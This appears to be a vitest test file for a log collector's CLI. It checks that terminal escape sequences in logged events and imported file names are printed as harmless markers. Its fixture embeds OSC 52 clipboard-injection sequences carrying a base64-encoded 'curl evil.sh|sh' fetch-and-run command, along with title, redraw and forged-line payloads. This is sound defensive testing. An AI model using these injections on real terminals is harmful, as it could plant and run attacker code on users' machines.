// Whoever can POST to the collector writes the text `logbridge query` prints, and a terminal
// obeys control sequences in what it prints: OSC 52 writes the clipboard, OSC 0 the title, CSI
// redraws lines. Sent through the real collector, read back through the real CLI.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { startCollector } from '../helpers/collector.js';
import { REPO_ROOT, tempDir } from '../helpers/temp.js';

const BIN = path.join(REPO_ROOT, 'bin', 'logbridge.mjs');

const run = (args: string[]) => spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', timeout: 120_000 });

const ESC = '\u001b';
const HOSTILE = `pay ok${ESC}]52;c;Y3VybCBldmlsLnNofHNo\u0007${ESC}]0;pwned\u0007${ESC}[1A${ESC}[2K\u009b2J\u009d52;c;eA==\u009c\rfaked\nINFO forged`;

describe('cli: collected text cannot drive the terminal', () => {
  it('query prints control characters from an event as markers, and --json as escapes that parse back to the message', async () => {
    const collector = await startCollector();
    const api = await collector.post('/api/logs', { method: 'POST', url: `/api/pay/${HOSTILE}`, status: 500, duration_ms: 3 });
    expect(api.status).toBe(200);
    const log = await collector.post('/v1/logs', {
      resourceLogs: [{ scopeLogs: [{ logRecords: [{ timeUnixNano: '1763900000005000000', severityText: 'ERROR', body: { stringValue: HOSTILE } }] }] }],
    });
    expect(log.status).toBe(200);
    const stored = await collector.search('');
    expect(stored.map((e) => (e.kind === 'api' ? e.url : e.message)).sort()).toEqual([`/api/pay/${HOSTILE}`, HOSTILE].sort());

    const human = run(['query', '--db', collector.db]);
    expect(human.status, human.stderr).toBe(0);
    expect(human.stdout).not.toContain(ESC);
    expect(human.stdout).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/);
    expect(human.stdout).toContain('⟨U+001B⟩]52;c;');
    expect(human.stdout.trimEnd().split('\n'), 'one event, one line').toHaveLength(2);

    const json = run(['query', '--db', collector.db, '--json']);
    expect(json.status, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/);
    const lines = json.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    const events = lines.map((l) => JSON.parse(l) as { kind: string; url?: string; message?: string });
    expect(events.map((e) => (e.kind === 'api' ? e.url : e.message)).sort()).toEqual([`/api/pay/${HOSTILE}`, HOSTILE].sort());
  });

  it('import prints bad-line reasons, notes and file names from a hostile file as markers', () => {
    const dir = tempDir();
    // A file name and lines chosen by whoever sent the log: bad lines are quoted back in reasons.
    const file = path.join(dir, `access${ESC}]0;x\u0007.log`);
    const good = '1.1.1.1 - - [10/Oct/2025:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "ua"';
    fs.writeFileSync(file, [good, good, `${good}`, `${ESC}]52;c;Y3VybA==\u0007 not a line${ESC}[2J`, good].join('\n'));
    const r = run(['import', '--db', path.join(dir, 'x.db'), file]);
    expect(r.stdout + r.stderr).toContain('⟨U+001B⟩');
    expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/);
  });
});
